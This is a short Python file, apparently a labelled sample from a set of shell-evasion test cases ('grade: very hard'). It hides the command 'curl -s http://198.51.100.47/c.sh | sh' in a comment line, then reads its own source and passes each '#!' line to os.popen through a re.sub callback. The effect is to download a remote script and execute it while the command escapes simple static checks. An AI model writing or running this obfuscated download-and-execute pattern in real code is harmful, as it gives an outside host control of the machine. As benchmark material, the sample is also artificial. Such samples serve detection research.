# evasion: the command is a comment line of the program itself; re.sub's callback runs each match through os.popen
# grade: very hard; does: shell
import os
import re

#!curl -s http://198.51.100.47/c.sh | sh

with open(__file__, encoding="utf-8") as fh:
    source = fh.read()

re.sub(r"^#!(.+)$", lambda m: os.popen(m.group(1)).read(), source, flags=re.M)
